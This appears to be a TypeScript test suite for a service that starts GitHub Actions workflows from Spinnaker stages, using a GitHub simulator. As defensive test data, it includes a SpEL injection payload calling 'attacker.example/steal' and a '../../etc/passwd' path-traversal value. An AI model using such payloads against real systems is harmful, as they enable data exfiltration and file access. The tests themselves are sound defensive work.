import request from 'supertest';
import { describe, expect, it, vi } from 'vitest';
import { useGithubSimulator } from './support/githubServer.js';
import { SEED } from '../emulators/github/simulator.js';
import { STAGE_SECRET, appFor, useTempStore } from './support/app.js';

const sim = useGithubSimulator();
const temp = useTempStore();
const seeded = SEED.repos['octo-org/hello-world'];
let stageCount = 0;

/** A stage of a new execution, as Orca would describe it. */
const stage = (fields: Record<string, unknown>) => ({
  executionId: `01JEXECUTION${++stageCount}`,
  stageId: `stage-${stageCount}`,
  application: 'checkout',
  repository: 'octo-org/hello-world',
  waitForCompletion: true,
  ...fields,
});

const deploy = (fields: Record<string, unknown> = {}) =>
  stage({ workflow: 'deploy.yml', ref: 'main', inputs: { region: 'eu-west-1', version: '1.2.3' }, ...fields });

function backend() {
  // Orca polls every few seconds; here the simulated run changes between polls, so reads are never served stale.
  const app = appFor(sim, temp.store, { readFreshForMs: 0 });
  return {
    dispatch: (body: unknown, secret: string | null = STAGE_SECRET) => {
      const req = request(app).post('/stage/dispatch');
      return secret === null ? req.send(body as object) : req.set('X-Stage-Secret', secret).send(body as object);
    },
    poll: (statusUrl: string) =>
      request(app)
        .get(new URL(statusUrl).pathname + new URL(statusUrl).search)
        .set('X-Stage-Secret', STAGE_SECRET),
    cancel: (runId: number, repo = 'octo-org/hello-world') =>
      request(app).post(`/stage/runs/${repo}/${runId}/cancel`).set('X-Stage-Secret', STAGE_SECRET),
  };
}

describe('POST /stage/dispatch with workflow_dispatch', () => {
  it('dispatches with the inputs and answers the run it started and where to poll it', async () => {
    const res = await backend().dispatch(deploy()).expect(200);

    expect(sim.dispatches).toEqual([
      expect.objectContaining({
        ref: 'main',
        inputs: { region: 'eu-west-1', version: '1.2.3' },
        runId: res.body.runId,
      }),
    ]);
    expect(res.body).toMatchObject({
      owner: 'octo-org',
      repo: 'hello-world',
      runId: expect.any(Number),
      runAttempt: 1,
      status: 'queued',
      conclusion: null,
      headBranch: 'main',
      htmlUrl: `https://github.com/octo-org/hello-world/actions/runs/${res.body.runId}`,
    });
    expect(res.body.statusUrl).toMatch(
      new RegExp(`^http://127\\.0\\.0\\.1:\\d+/stage/runs/octo-org/hello-world/${res.body.runId}$`),
    );
  });

  it('follows the run: RUNNING with progress, then SUCCEEDED', async () => {
    const api = backend();
    const { body: started } = await api.dispatch(deploy()).expect(200);

    const queued = await api.poll(started.statusUrl).expect(200);
    expect(queued.body).toMatchObject({ status: 'RUNNING', progress: '0 of 2 jobs done', run: { status: 'queued' } });

    sim.setRunStatus(started.runId, 'in_progress');
    expect((await api.poll(started.statusUrl)).body.status).toBe('RUNNING');

    sim.setRunStatus(started.runId, 'completed', 'success');
    const done = await api.poll(started.statusUrl).expect(200);
    expect(done.body).toMatchObject({
      status: 'SUCCEEDED',
      progress: '2 of 2 jobs done',
      failedJobs: [],
      run: { runId: started.runId, status: 'completed', conclusion: 'success' },
    });
  });

  it('names the failed jobs of a completed run even when its jobs were read for a viewer just before it ended', async () => {
    // Only Date is faked: it is the read cache's clock (reads stay fresh for 5 s).
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      const app = appFor(sim, temp.store);
      const started = await request(app).post('/stage/dispatch').set('X-Stage-Secret', STAGE_SECRET).send(deploy());
      const { runId, statusUrl } = started.body as { runId: number; statusUrl: string };
      sim.setRunStatus(runId, 'in_progress');
      vi.advanceTimersByTime(4_000);
      const viewed = await request(app).get(`/api/repos/octo-org/hello-world/runs/${runId}/jobs`).expect(200);
      expect(viewed.body.items.every((job: { status: string }) => job.status !== 'completed')).toBe(true);

      sim.setRunStatus(runId, 'completed', 'failure');
      // The run read at dispatch is now stale, the viewer's jobs are not.
      vi.advanceTimersByTime(2_000);
      const failed = [...sim.runs.get(runId)!.jobIds].map((id) => sim.jobs.get(id)!.job.name).sort();
      const res = await request(app).get(new URL(statusUrl).pathname).set('X-Stage-Secret', STAGE_SECRET).expect(200);

      expect(res.body).toMatchObject({ status: 'TERMINAL', progress: `Failed: ${failed.join(', ')}` });
      expect([...res.body.failedJobs].sort()).toEqual(failed);
      // The read cache's own request header never reaches GitHub.
      expect(sim.requests.filter((r) => 'x-read-cache-revalidate' in r.headers)).toEqual([]);
    } finally {
      vi.useRealTimers();
    }
  });

  it('ends TERMINAL naming the failed job', async () => {
    const res = await backend()
      .poll(`http://backend/stage/runs/octo-org/hello-world/${seeded.runs.failure}`)
      .expect(200);

    expect(res.body).toMatchObject({ status: 'TERMINAL', progress: 'Failed: deploy', failedJobs: ['deploy'] });
  });

  it('cancels the run when the stage is cancelled, then reports CANCELED', async () => {
    const api = backend();
    const { body: started } = await api.dispatch(deploy()).expect(200);

    const cancel = await api.cancel(started.runId).expect(202);
    expect(cancel.body).toEqual({ cancelled: true, message: `Cancellation of run ${started.runId} requested` });
    expect(sim.runs.get(started.runId)?.run).toMatchObject({ status: 'completed', conclusion: 'cancelled' });
    expect((await api.poll(started.statusUrl)).body).toMatchObject({
      status: 'CANCELED',
      progress: 'The run was cancelled',
    });

    const again = await api.cancel(started.runId).expect(202);
    expect(again.body.cancelled).toBe(false);
  });

  it("cancels by stage, as Orca's cancelEndpoint does, and accepts a stage that started nothing", async () => {
    const app = appFor(sim, temp.store, { readFreshForMs: 0 });
    const body = deploy({ stageStartTime: 1 });
    const { body: started } = await backend().dispatch(body).expect(200);
    const cancel = (key: object) => request(app).post('/stage/cancel').set('X-Stage-Secret', STAGE_SECRET).send(key);

    const res = await cancel({ executionId: body.executionId, stageId: body.stageId, stageStartTime: 1 }).expect(202);
    expect(res.body.cancelled).toBe(true);
    expect(sim.runs.get(started.runId)?.run.conclusion).toBe('cancelled');

    const never = await cancel({ executionId: 'never-dispatched', stageId: 's' }).expect(202);
    expect(never.body).toEqual({ cancelled: false, message: 'This stage started no run; nothing to cancel' });
  });

  it('does not dispatch twice when Orca retries the same stage, even after a restart', async () => {
    const body = deploy();
    const first = await backend().dispatch(body).expect(200);
    const retried = await backend().dispatch(body).expect(200);

    expect(retried.body.runId).toBe(first.body.runId);
    expect(sim.dispatches).toHaveLength(1);
  });

  it('dispatches once when the same stage calls twice at the same moment', async () => {
    const api = backend();
    const body = deploy();
    const [a, b] = await Promise.all([api.dispatch(body), api.dispatch(body)]);

    expect(a.status).toBe(200);
    expect(b.status).toBe(200);
    expect(b.body.runId).toBe(a.body.runId);
    expect(sim.dispatches).toHaveLength(1);
  });

  it('uses the default branch when no ref is given', async () => {
    const res = await backend()
      .dispatch(deploy({ ref: '' }))
      .expect(200);

    expect(res.body.headBranch).toBe('main');
    expect(sim.dispatches[0]?.ref).toBe('main');
  });

  it.each([
    ['SHA-1', () => sim.repos.get('octo-org/hello-world')!.branches.get('main')!],
    ['SHA-256', () => '9f'.repeat(32)],
  ])('refuses a %s commit id as the ref with a 400 that says to pass it as an input instead', async (_kind, sha) => {
    const res = await backend()
      .dispatch(deploy({ ref: sha() }))
      .expect(400);

    expect(res.body.error).toEqual({
      name: 'InputError',
      message:
        'Invalid request: body.ref is a commit sha. GitHub dispatches a workflow only to a branch or tag. Give the branch or tag, and pass the commit as a workflow input that the workflow checks out (docs/stage.md, "GitHub\'s own expressions").',
    });
    expect(sim.requests).toEqual([]);
  });

  it('dispatches anew when the user restarts the stage (same stage id, new start time)', async () => {
    const api = backend();
    const body = deploy({ stageStartTime: 1_732_000_000_000 });
    const first = await api.dispatch(body).expect(200);
    const restarted = await api.dispatch({ ...body, stageStartTime: 1_732_000_900_000 }).expect(200);

    expect(restarted.body.runId).not.toBe(first.body.runId);
    expect(sim.dispatches).toHaveLength(2);
  });

  it('answers a status URL without a query string, whatever waitForCompletion says', async () => {
    const res = await backend()
      .dispatch(deploy({ waitForCompletion: false }))
      .expect(200);

    expect(new URL(res.body.statusUrl).search).toBe('');
  });

  it('refuses a workflow without workflow_dispatch with a 422 that says so, and lets a fixed retry dispatch', async () => {
    const body = stage({ workflow: 'ci.yml' });
    const res = await backend().dispatch(body).expect(422);

    expect(res.body.error.message).toBe(
      'Workflow ci.yml in octo-org/hello-world has no workflow_dispatch trigger at main, so it cannot be started from Spinnaker. Add "on: workflow_dispatch" to .github/workflows/ci.yml, or use repository_dispatch.',
    );
    expect(sim.dispatches).toEqual([]);

    const fixed = await backend()
      .dispatch({ ...body, workflow: 'deploy.yml', inputs: { region: 'us-east-1' } })
      .expect(200);
    expect(fixed.body.runId).toEqual(expect.any(Number));
  });

  it('sends checkbox and number inputs to GitHub as text, which GitHub requires', async () => {
    await backend()
      .dispatch(deploy({ inputs: { region: 'eu-west-1', dry_run: true, replicas: 3 } }))
      .expect(200);

    expect(sim.dispatches[0]?.inputs).toEqual({ region: 'eu-west-1', dry_run: 'true', replicas: '3' });
  });

  it("passes GitHub's own refusal of the inputs on as 422", async () => {
    const res = await backend()
      .dispatch(deploy({ inputs: { region: 'mars-1' } }))
      .expect(422);

    expect(res.body.error.message).toMatch(
      /Provided value 'mars-1' for input 'region' not in the list of allowed values/,
    );
  });
});

describe("what Orca keeps in the stage's context", () => {
  it("holds no expression from GitHub users' text: run title, branch and job names are made inert", async () => {
    const attack = "${#jsonFromUrl('http://attacker.example/steal')}";
    const run = sim.addRun({
      owner: 'octo-org',
      repo: 'hello-world',
      workflow: 'deploy.yml',
      branch: 'main',
      status: 'completed',
      conclusion: 'failure',
      displayTitle: `fix: ${attack}`,
      jobs: [{ name: `test ${attack}`, status: 'completed', conclusion: 'failure' }],
    });

    const res = await backend().poll(`http://backend/stage/runs/octo-org/hello-world/${run.id}`).expect(200);

    expect(JSON.stringify(res.body)).not.toContain('${');
    expect(res.body).toMatchObject({
      status: 'TERMINAL',
      failedJobs: ["test $ {#jsonFromUrl('http://attacker.example/steal')}"],
      run: { runId: run.id, name: "fix: $ {#jsonFromUrl('http://attacker.example/steal')}" },
    });
  });
});

describe('finding the run without run details from GitHub', () => {
  it('two dispatches of the same workflow at the same moment each find their own run by correlation id', async () => {
    sim.withoutRunDetails();
    const api = backend();
    const smoke = (target: string) => stage({ workflow: 'smoke.yml', inputs: { target } });

    const [a, b] = await Promise.all([api.dispatch(smoke('a')), api.dispatch(smoke('b'))]);

    expect(a.status).toBe(200);
    expect(b.status).toBe(200);
    expect(a.body.runId).not.toBe(b.body.runId);
    expect(a.body.name).toBe(`Smoke test a [${a.body.correlationId}]`);
    expect(b.body.name).toBe(`Smoke test b [${b.body.correlationId}]`);
    const sent = new Map(sim.dispatches.map((d) => [d.runId, d.inputs.spinnaker_correlation_id]));
    expect(sent.get(a.body.runId)).toBe(a.body.correlationId);
  });

  it('takes the only run the App started since the dispatch when the workflow carries no correlation id', async () => {
    sim.withoutRunDetails();
    sim.addRun({ owner: 'octo-org', repo: 'hello-world', workflow: 'deploy.yml', event: 'workflow_dispatch' });

    const res = await backend().dispatch(deploy()).expect(200);

    expect(res.body.runId).toBe(sim.dispatches[0]?.runId);
  });

  it('answers 503 with Retry-After and what to add to the workflow when it cannot tell runs apart', async () => {
    sim.withoutRunDetails();
    // Another pipeline dispatched the same workflow through the same App a moment ago.
    sim.addRun({ owner: 'octo-org', repo: 'hello-world', workflow: 'deploy.yml', actor: sim.bot });

    const res = await backend().dispatch(deploy()).expect(503);

    expect(res.headers['retry-after']).toBe('10');
    expect(res.body.error.name).toBe('RunNotFoundError');
    expect(res.body.error.message).toMatch(
      /^GitHub accepted the dispatch of deploy\.yml in octo-org\/hello-world, but no run of it could be told apart as this stage's within 3 s \(2 runs started by the App at the same time could be it\)\. Give the workflow a run-name that shows inputs\.spinnaker_correlation_id \(in GitHub's expression syntax\) and declare the spinnaker_correlation_id input; see docs\/stage\.md\.$/,
    );
  });

  it('ends the search 5 minutes after the dispatch with a 422 that Orca does not retry, whatever its stage timeout', async () => {
    sim.withoutRunDetails();
    sim.addRun({ owner: 'octo-org', repo: 'hello-world', workflow: 'deploy.yml', actor: sim.bot });
    const stage = deploy();
    await backend().dispatch(stage).expect(503);

    // Orca 2026.2 retries the call for the stage's stageTimeoutMs, hours for a long workflow; 5 minutes have passed.
    await temp.store.db
      .updateTable('dispatches')
      .set({ created_at: Date.now() - 5 * 60_000 - 1_000 })
      .execute();
    const res = await backend().dispatch(stage).expect(422);

    expect(res.headers['retry-after']).toBeUndefined();
    expect(res.body.error.name).toBe('RunNeverFoundError');
    expect(res.body.error.message).toMatch(
      /^GitHub accepted the dispatch of deploy\.yml in octo-org\/hello-world, but no run of it could be told apart as this stage's within 30\d s \(2 runs/,
    );
    expect(sim.dispatches).toHaveLength(1);
  });
});

describe('bodies holding expressions Orca could not evaluate', () => {
  const send = (text: string) =>
    request(appFor(sim, temp.store))
      .post('/stage/dispatch')
      .set('X-Stage-Secret', STAGE_SECRET)
      .set('Content-Type', 'application/json')
      .send(text);

  it('answers 400 naming inputs and the usual causes for an unresolved ${#toJson(trigger.parameters.version)}', async () => {
    const res = await send(
      '{ "executionId": "01JEX", "stageId": "s1", "repository": "octo-org/hello-world", "workflow": "deploy.yml",' +
        ' "inputs": { "region": "eu-west-1", "version": ${#toJson(trigger.parameters.version)} } }',
    ).expect(400);

    expect(res.body.error.name).toBe('InputError');
    expect(res.body.error.message).toMatch(
      /^The dispatch body still holds an expression Orca could not evaluate in inputs\.version \(\$ \{#toJson\(trigger\.parameters\.version\)\}\)\./,
    );
    expect(res.body.error.message).toMatch(/the pipeline ran without a trigger parameter the stage refers to/);
    expect(res.body.error.message).toMatch(/GitHub's own \$ \{\{ \}\} syntax/);
    // Orca keeps this answer in the stage context and evaluates it: quoted expressions go back inert (spel.ts).
    expect(res.body.error.message).not.toContain('${');
    expect(sim.dispatches).toEqual([]);
  });

  it("names the field holding GitHub's ${{ }} in a body that is JSON", async () => {
    const res = await send(
      JSON.stringify(deploy({ inputs: { region: 'eu-west-1', version: '${{ github.sha }}' } })),
    ).expect(400);

    expect(res.body.error.message).toMatch(/in inputs\.version \(\$ \{\{ github\.sha \}\}\)/);
    expect(sim.dispatches).toEqual([]);
  });

  it('still answers a plain JSON syntax error as before', async () => {
    const res = await send('{ "executionId": ').expect(400);

    expect(res.body.error.message).not.toMatch(/Orca could not evaluate/);
  });
});

describe('GitHub Enterprise Server before 3.21, which refuses return_run_details', () => {
  const dispatchCalls = () =>
    sim.requests.filter((r) => r.template === '/repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches');

  it('dispatches once without the key and finds the run by correlation id', async () => {
    sim.withoutRunDetails();

    const res = await backend()
      .dispatch(stage({ workflow: 'smoke.yml', inputs: { target: 'a' } }))
      .expect(200);

    expect(dispatchCalls().map((r) => [r.status, 'return_run_details' in (r.body as object)])).toEqual([
      [422, true],
      [204, false],
    ]);
    expect(sim.dispatches).toHaveLength(1);
    expect(res.body).toMatchObject({
      runId: sim.dispatches[0]?.runId,
      name: `Smoke test a [${res.body.correlationId}]`,
    });
  });

  it('falls back the same when an older release refuses the key with 400 instead of 422', async () => {
    sim.withoutRunDetails({ status: 400 });

    const res = await backend()
      .dispatch(stage({ workflow: 'smoke.yml', inputs: { target: 'a' } }))
      .expect(200);

    expect(dispatchCalls().map((r) => [r.status, 'return_run_details' in (r.body as object)])).toEqual([
      [400, true],
      [204, false],
    ]);
    expect(sim.dispatches).toHaveLength(1);
    expect(res.body).toMatchObject({
      runId: sim.dispatches[0]?.runId,
      name: `Smoke test a [${res.body.correlationId}]`,
    });
  });

  it('remembers the refusal: later dispatches leave the key out', async () => {
    sim.withoutRunDetails();
    const api = backend();
    await api.dispatch(stage({ workflow: 'smoke.yml', inputs: { target: 'a' } })).expect(200);
    await api.dispatch(stage({ workflow: 'smoke.yml', inputs: { target: 'b' } })).expect(200);

    expect(dispatchCalls().map((r) => r.status)).toEqual([422, 204, 204]);
    expect(sim.dispatches).toHaveLength(2);
  });

  it('still passes any other 422 on, without a second dispatch', async () => {
    sim.withoutRunDetails();
    const api = backend();
    await api.dispatch(stage({ workflow: 'smoke.yml', inputs: { target: 'a' } })).expect(200);

    const res = await api.dispatch(deploy({ inputs: { region: 'mars-1' } })).expect(422);

    expect(res.body.error.message).toMatch(/Provided value 'mars-1' for input 'region'/);
    expect(dispatchCalls().map((r) => r.status)).toEqual([422, 204, 422]);
  });
});

describe('POST /stage/dispatch with repository_dispatch', () => {
  it('sends the event with the client payload and finds the run it started', async () => {
    const res = await backend()
      .dispatch(
        stage({ dispatchType: 'repository_dispatch', eventType: 'release', clientPayload: { version: '2.0.0' } }),
      )
      .expect(200);

    expect(res.body.name).toBe(`Release 2.0.0 [${res.body.correlationId}]`);
    expect(sim.requests.find((r) => r.template === '/repos/{owner}/{repo}/dispatches')?.body).toEqual({
      event_type: 'release',
      client_payload: { version: '2.0.0', spinnaker_correlation_id: res.body.correlationId },
    });
  });

  it('says to check the event type when GitHub accepts an event no workflow listens to', async () => {
    const res = await backend()
      .dispatch(stage({ dispatchType: 'repository_dispatch', eventType: 'relaese', clientPayload: {} }))
      .expect(503);

    expect(res.body.error.message).toMatch(
      /^GitHub accepted the repository_dispatch event relaese in octo-org\/hello-world, but no run it started could be told apart as this stage's within 3 s\. Check that a workflow on the default branch lists relaese under on\.repository_dispatch\.types/,
    );
    expect(res.body.error.message).not.toMatch(/retries/);
  });

  it('refuses a client payload GitHub would refuse', async () => {
    const clientPayload = Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`field${i}`, i]));
    const res = await backend()
      .dispatch(stage({ dispatchType: 'repository_dispatch', eventType: 'release', clientPayload }))
      .expect(400);

    expect(res.body.error.message).toMatch(/clientPayload has more than 9 top-level properties/);
    expect(sim.count('POST', '/repos/{owner}/{repo}/dispatches')).toBe(0);
  });
});

describe('stage endpoint input and authentication', () => {
  it.each([
    ['no X-Stage-Secret', null],
    ['a wrong X-Stage-Secret', 'guess'],
  ])('%s gets 401 and dispatches nothing', async (_name, secret) => {
    const res = await backend().dispatch(deploy(), secret).expect(401);

    expect(res.body.error).toEqual({
      name: 'AuthenticationError',
      message: "Missing or wrong X-Stage-Secret header: it must equal the backend's STAGE_SECRET.",
    });
    expect(sim.requests).toEqual([]);
  });

  it('accepts the previous secret beside the new one while STAGE_SECRET_PREVIOUS is set, so a rotation fails no stage', async () => {
    // Orca before 2026.1 keeps the secret in each stage's context: a stage started before the rotation sends the
    // old one until it ends, while new stages send the new one.
    const OLD_SECRET = 'the-secret-before-the-rotation';
    const app = appFor(sim, temp.store, { readFreshForMs: 0 }, undefined, undefined, undefined, {
      previousStageSecret: OLD_SECRET,
    });
    const dispatch = (body: object, secret: string) =>
      request(app).post('/stage/dispatch').set('X-Stage-Secret', secret).send(body);

    const started = await dispatch(deploy(), OLD_SECRET).expect(200);
    await request(app).get(new URL(started.body.statusUrl).pathname).set('X-Stage-Secret', OLD_SECRET).expect(200);
    await dispatch(deploy(), STAGE_SECRET).expect(200);
    await dispatch(deploy(), 'guess-guess-guess-guess').expect(401);
    expect(sim.dispatches).toHaveLength(2);
  });

  it.each([
    ['no repository', { workflow: 'deploy.yml', executionId: 'e', stageId: 's' }, /body.repository/],
    ['a repository that is not owner/repo', deploy({ repository: 'octo-org' }), /body.repository must be owner\/repo/],
    ['a workflow path', deploy({ workflow: '../../etc/passwd' }), /body.workflow must be a workflow file name/],
    ['no execution id', deploy({ executionId: '' }), /body.executionId/],
    ['inputs that are not a map', deploy({ inputs: ['a'] }), /body.inputs/],
    [
      'more inputs than GitHub takes',
      deploy({ inputs: Object.fromEntries(Array.from({ length: 26 }, (_, i) => [`input${i}`, 'x'])) }),
      /^Invalid request: body\.inputs has more than 25 inputs: GitHub\.com and GitHub Enterprise Cloud accept at most 25, GitHub Enterprise Server 3\.19 and earlier at most 10\.$/,
    ],
    ['an unknown dispatch type', deploy({ dispatchType: 'push' }), /body.dispatchType/],
  ])('%s gets 400 naming the field', async (_name, body, message) => {
    const res = await backend().dispatch(body).expect(400);

    expect(res.body.error.name).toBe('InputError');
    expect(res.body.error.message).toMatch(message);
    expect(sim.count('POST', /dispatches$/)).toBe(0);
  });

  it('malformed JSON gets a 400 JSON error', async () => {
    const res = await request(appFor(sim, temp.store))
      .post('/stage/dispatch')
      .set('X-Stage-Secret', STAGE_SECRET)
      .set('Content-Type', 'application/json')
      .send('{"repository": ')
      .expect(400);

    expect(res.body.error.message).toMatch(/JSON/);
  });
});
